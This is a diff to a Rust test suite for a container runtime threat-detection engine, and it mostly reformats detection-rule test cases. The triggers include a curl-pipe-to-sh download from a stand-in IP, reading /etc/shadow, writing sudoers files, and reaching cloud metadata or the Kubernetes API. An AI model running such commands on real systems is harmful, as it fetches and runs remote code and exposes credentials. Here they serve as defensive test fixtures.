@@ -57,7 +57,11 @@ fn cases() -> Vec<(&'static str, Case, Case)> {
         ),
         (
             "RUNTIME-download-then-run",
-            exec(sh(&["sh", "-c", "curl -fsSL http://198.51.100.9/i.sh | sh"])),
+            exec(sh(&[
+                "sh",
+                "-c",
+                "curl -fsSL http://198.51.100.9/i.sh | sh",
+            ])),
             exec(sh(&["sh", "-c", "curl -fsS http://localhost/healthz"])),
         ),
         (
@@ -99,7 +103,11 @@ fn cases() -> Vec<(&'static str, Case, Case)> {
         ),
         (
             "RUNTIME-read-sensitive-file",
-            open(p("cat", "/bin/cat", &["cat", "/etc/shadow"]), "/etc/shadow", 0),
+            open(
+                p("cat", "/bin/cat", &["cat", "/etc/shadow"]),
+                "/etc/shadow",
+                0,
+            ),
             open(
                 p("unix_chkpwd", "/usr/sbin/unix_chkpwd", &["unix_chkpwd"]).host(),
                 "/etc/shadow",
@@ -109,7 +117,11 @@ fn cases() -> Vec<(&'static str, Case, Case)> {
         (
             "RUNTIME-sudoers-write",
             open(sh(&["sh"]), "/etc/sudoers.d/90-x", O_WRONLY | O_CREAT),
-            open(p("sudo", "/usr/bin/sudo", &["sudo", "id"]), "/etc/sudoers", 0),
+            open(
+                p("sudo", "/usr/bin/sudo", &["sudo", "id"]),
+                "/etc/sudoers",
+                0,
+            ),
         ),
         (
             "RUNTIME-ssh-key-access",
@@ -157,11 +169,7 @@ fn cases() -> Vec<(&'static str, Case, Case)> {
         ),
         (
             "RUNTIME-cloud-metadata",
-            connect(
-                p("curl", "/usr/bin/curl", &["curl"]),
-                "169.254.169.254",
-                80,
-            ),
+            connect(p("curl", "/usr/bin/curl", &["curl"]), "169.254.169.254", 80),
             connect(
                 p("curl", "/usr/bin/curl", &["curl"]).host(),
                 "169.254.169.254",
@@ -170,8 +178,16 @@ fn cases() -> Vec<(&'static str, Case, Case)> {
         ),
         (
             "RUNTIME-k8s-api-from-container",
-            connect(p("python3", "/usr/bin/python3", &["python3"]), "10.96.0.1", 443),
-            connect(p("kubectl", "/usr/bin/kubectl", &["kubectl"]), "10.96.0.1", 443),
+            connect(
+                p("python3", "/usr/bin/python3", &["python3"]),
+                "10.96.0.1",
+                443,
+            ),
+            connect(
+                p("kubectl", "/usr/bin/kubectl", &["kubectl"]),
+                "10.96.0.1",
+                443,
+            ),
         ),
         (
             "RUNTIME-namespace-change",
@@ -335,7 +351,11 @@ fn every_builtin_fires_on_its_trigger_and_not_on_its_near_miss() {
     let mut covered = BTreeSet::new();
     for (id, trigger, near_miss) in cases() {
         let fired = judge(&engine, &trigger);
-        assert!(ids(&fired).contains(&id), "{id}: trigger raised {:?}", ids(&fired));
+        assert!(
+            ids(&fired).contains(&id),
+            "{id}: trigger raised {:?}",
+            ids(&fired)
+        );
         let quiet = judge(&engine, &near_miss);
         assert!(
             !ids(&quiet).contains(&id),
@@ -384,7 +404,7 @@ fn alerts_carry_container_process_tree_mitre_and_evidence() {
         [
             (300, "sh", "sh -c id"),
             (200, "nginx", "nginx -g daemon off;"),
-            (1, "systemd", "systemd")
+            (1, "systemd", "init")
         ]
     );
     assert_eq!(a.evidence.len(), 1);
@@ -423,7 +443,10 @@ fn user_rules_add_to_and_disable_builtins() {
         &engine,
         &exec(p("python3", "/usr/bin/python3", &["python3", "a.py"])),
     );
-    let a = py.iter().find(|a| a.rule_id == "Python in container").unwrap();
+    let a = py
+        .iter()
+        .find(|a| a.rule_id == "Python in container")
+        .unwrap();
     assert_eq!(a.output, "python (python3 a.py) under nginx pid 200");
     let https = judge(&engine, &connect(p("x", "/x", &["x"]), "198.51.100.7", 443));
     assert!(ids(&https).contains(&"RUNTIME-stratum-port"));
@@ -436,7 +459,10 @@ fn user_rules_add_to_and_disable_builtins() {
     .unwrap();
     let only = detect::engine(false, &[&alone]).unwrap();
     assert_eq!(only.len(), 1);
-    assert_eq!(ids(&judge(&only, &exec(p("sh", "/bin/sh", &["sh"])))), ["R"]);
+    assert_eq!(
+        ids(&judge(&only, &exec(p("sh", "/bin/sh", &["sh"])))),
+        ["R"]
+    );
     // A rule naming a field the table lacks fails at load with its place.
     std::fs::write(
         &path,
@@ -444,5 +470,8 @@ fn user_rules_add_to_and_disable_builtins() {
     )
     .unwrap();
     let err = detect::engine(false, &[&path]).unwrap_err().to_string();
-    assert!(err.contains("mine.yaml:3:") && err.contains("unknown runtime field proc.nope"), "{err}");
+    assert!(
+        err.contains("mine.yaml:3:") && err.contains("unknown runtime field proc.nope"),
+        "{err}"
+    );
 }
